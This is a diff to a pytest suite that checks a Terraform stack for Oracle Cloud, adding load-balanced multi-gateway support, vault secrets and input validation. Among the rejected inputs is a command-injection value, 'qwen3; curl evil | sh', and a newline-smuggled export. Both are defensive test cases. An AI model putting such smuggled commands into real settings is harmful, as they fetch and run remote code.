@@ -74,6 +74,10 @@ def test_the_stack_has_its_network_vm_vault_and_optional_database():
         "oci_vault_secret.gateway_token", "oci_vault_secret.adb_admin_password",
         "oci_identity_dynamic_group.picoora", "oci_identity_policy.picoora",
         "oci_database_autonomous_database.picoora", "random_password.gateway_token",
+        "oci_vault_secret.adb_picoora_password", "random_password.adb_picoora",
+        "oci_load_balancer_load_balancer.picoora", "oci_load_balancer_backend_set.picoora",
+        "oci_load_balancer_backend.picoora", "oci_load_balancer_listener.picoora",
+        "terraform_data.fleet_needs_autonomous_db",
     }
     subnet = RESOURCES["oci_core_subnet.public"]
     assert subnet["route_table_id"] == "${oci_core_route_table.picoora.id}"
@@ -87,17 +91,20 @@ def test_ingress_is_ssh_and_the_gateway_port_from_the_allowed_networks_only():
     security = RESOURCES["oci_core_security_list.picoora"]
     assert "ingress_security_rules" not in security  # only the dynamic blocks below, nothing fixed
     rules = [block["ingress_security_rules"] for block in security["dynamic"]]
-    by_port = {}
+    tcp_rules = []
     for rule in rules:
         content = rule["content"][0]
         assert content["source"] == "${ingress_security_rules.value}"
         if content["protocol"] == "6":
             tcp = content["tcp_options"][0]
             assert tcp["min"] == tcp["max"]
-            by_port[str(tcp["min"])] = rule["for_each"]
+            tcp_rules.append((str(tcp["min"]), rule["for_each"]))
         else:
             assert content["protocol"] == "1" and content["icmp_options"][0] == {"type": 3, "code": 4}
-    assert by_port == {"22": "${toset(var.ssh_allowed_cidrs)}", "${var.gateway_port}": "${toset(local.gateway_cidrs)}"}
+    assert sorted(tcp_rules) == sorted([
+        ("22", "${toset(var.ssh_allowed_cidrs)}"), ("${var.gateway_port}", "${toset(local.gateway_cidrs)}"),
+        # with several gateways, the load balancer in the subnet reaches them (and only that subnet)
+        ("${var.gateway_port}", "${local.fleet ? toset([local.subnet_cidr]) : toset([])}")])
     assert "0.0.0.0/0" not in str(rules)
     assert [r["destination"] for r in security["egress_security_rules"]] == ["0.0.0.0/0"]
 
@@ -136,7 +143,9 @@ def test_no_secret_reaches_instance_metadata():
     assert "read secret-bundles" in policy and "target.secret.id = '${id}'" in policy
     assert "local.secret_ids" in policy
     group = RESOURCES["oci_identity_dynamic_group.picoora"]
-    assert group["matching_rule"] == "ALL {instance.id = '${oci_core_instance.picoora.id}'}"
+    assert group["matching_rule"] == ("ANY {${join(\", \", [for vm in oci_core_instance.picoora : "
+                                      "\"instance.id = '${vm.id}'\"])}}")
+    assert "oci_vault_secret.adb_picoora_password[*].id" in LOCALS["secret_ids"]
 
 
 def test_autonomous_database_is_optional_free_and_23ai_or_newer():
@@ -153,11 +162,40 @@ def test_autonomous_database_is_optional_free_and_23ai_or_newer():
 
 def test_outputs_and_their_sensitivity():
     assert set(OUTPUTS) == {"instance_public_ip", "ssh_command", "setup_log_command", "health_url", "chat_command",
-                            "database_mode", "gateway_token", "adb_admin_password"}
+                            "database_mode", "gateway_token", "adb_admin_password", "instance_public_ips",
+                            "gateway_url"}
     sensitive = {name for name, body in OUTPUTS.items() if body.get("sensitive")}
     assert sensitive == {"gateway_token", "adb_admin_password"}
     assert "/var/log/picoora-setup.log" in OUTPUTS["setup_log_command"]["value"]
-    assert OUTPUTS["health_url"]["value"].endswith(":${var.gateway_port}/health")
+    assert OUTPUTS["health_url"]["value"] == "http://${local.gateway_host}:${var.gateway_port}/health"
+    assert OUTPUTS["gateway_url"]["value"] == "http://${local.gateway_host}:${var.gateway_port}"
+    assert "oci_load_balancer_load_balancer.picoora[0].ip_address_details[0].ip_address" in LOCALS["gateway_host"]
+
+
+def test_several_gateways_sit_behind_a_load_balancer_that_checks_ready():
+    instance = RESOURCES["oci_core_instance.picoora"]
+    assert instance["count"] == "${var.gateway_count}"
+    assert VARIABLES["gateway_count"]["default"] == 1 and LOCALS["fleet"] == "${var.gateway_count > 1}"
+    for name in ("load_balancer", "backend_set", "listener"):
+        assert RESOURCES[f"oci_load_balancer_{name}.picoora"]["count"] == "${local.fleet ? 1 : 0}"
+    lb = RESOURCES["oci_load_balancer_load_balancer.picoora"]
+    assert lb["shape"] == "flexible" and lb["subnet_ids"] == ["${oci_core_subnet.public.id}"]
+    assert lb["shape_details"][0] == {"minimum_bandwidth_in_mbps": 10, "maximum_bandwidth_in_mbps": 10}  # Always Free
+    check = RESOURCES["oci_load_balancer_backend_set.picoora"]["health_checker"][0]
+    assert (check["protocol"], check["url_path"], check["return_code"], check["port"]) == (
+        "HTTP", "/ready", 200, "${var.gateway_port}")
+    backend = RESOURCES["oci_load_balancer_backend.picoora"]
+    assert backend["count"] == "${local.fleet ? var.gateway_count : 0}"
+    assert backend["ip_address"] == "${oci_core_instance.picoora[count.index].private_ip}"
+    assert backend["port"] == "${var.gateway_port}"
+    listener = RESOURCES["oci_load_balancer_listener.picoora"]
+    assert (listener["protocol"], listener["port"]) == ("HTTP", "${var.gateway_port}")
+    assert LOCALS["setup_settings"]["database_required"] == '${local.fleet ? "yes" : "no"}'
+
+
+def test_the_single_vm_of_earlier_stacks_becomes_the_first_gateway_in_place():
+    moved = [block for path in TF.glob("*.tf") for block in _plain(hcl2.load(path.open())).get("moved", [])]
+    assert moved == [{"from": "${oci_core_instance.picoora}", "to": "${oci_core_instance.picoora[0]}"}]
 
 
 # ---- the variable rules, run by terraform on a copy that needs no provider ------------------------
@@ -174,10 +212,11 @@ def variables_only(tmp_path_factory):
     if TERRAFORM is None:
         pytest.skip("terraform is not installed")
     work = tmp_path_factory.mktemp("tf-variables")
-    for name in ("variables.tf", "locals.tf"):
+    for name in ("variables.tf", "locals.tf"):  # locals.tf's guard is a terraform_data: a built-in, no download
         shutil.copy(TF / name, work / name)
     (work / "show.tf").write_text('output "gateway_cidrs" { value = local.gateway_cidrs }\n'
-                                  'output "is_flex" { value = local.is_flex }\n')
+                                  'output "is_flex" { value = local.is_flex }\n'
+                                  'output "fleet" { value = local.fleet }\n')
     init = subprocess.run([TERRAFORM, "init", "-input=false", "-no-color"], cwd=work, capture_output=True, text=True,
                           timeout=120)
     assert init.returncode == 0, init.stdout + init.stderr
@@ -210,6 +249,11 @@ def computed(work: Path, **overrides: str) -> str:
     ({"ollama_model": "qwen3; curl evil | sh"}, "ollama_model must be a model name"),
     ({"picoora_ref": "main\nexport X=1"}, "picoora_ref must be a branch or tag name"),
     ({"gateway_port": "1521"}, "other than 1521"),
+    ({"gateway_count": "7"}, "gateway_count must be a whole number from 1 to 6"),
+    ({"gateway_count": "2.5"}, "gateway_count must be a whole number from 1 to 6"),
+    ({"gateway_count": "3"}, "gateway_count above 1 needs use_autonomous_db = true"),
+    ({"gateway_count": "3", "use_autonomous_db": "true", "expose_gateway": "false"},
+     "gateway_count above 1 needs expose_gateway = true"),
 ])
 def test_bad_values_are_refused_with_a_clear_message(variables_only, overrides, complaint):
     done = plan(variables_only, **overrides)
@@ -229,13 +273,16 @@ def test_gateway_networks_default_to_the_ssh_ones_and_can_be_closed(variables_on
 def test_good_values_are_accepted(variables_only):
     computed(variables_only, adb_admin_password="Pico_2026_Strong", adb_db_version="26ai",
              ollama_model="hf.co/org/model:Q4_K_M", use_autonomous_db="true")
+    assert "fleet = false" in computed(variables_only)
+    assert "fleet = true" in computed(variables_only, gateway_count="3", use_autonomous_db="true")
 
 
 # ---- cloud-init and the set-up script ------------------------------------------------------------
 
 SAMPLE_SETTINGS = {
     "database_mode": "freepdb", "ollama_model": "qwen3:4b", "gateway_port": "18790", "gateway_exposed": "yes",
-    "gateway_token_secret": "ocid1.vaultsecret.oc1.eu-frankfurt-1.example", "adb_admin_secret": "",
+    "database_required": "no", "gateway_token_secret": "ocid1.vaultsecret.oc1.eu-frankfurt-1.example",
+    "adb_admin_secret": "", "adb_user_secret": "",
     "adb_dsn": "(description=(address=(protocol=tcps)(port=1521)(host=adb.example.com))"
                "(connect_data=(service_name=x_low.adb.oraclecloud.com)))",
     "picoora_repository": "https://github.com/picoora/picoora", "picoora_ref": "main",
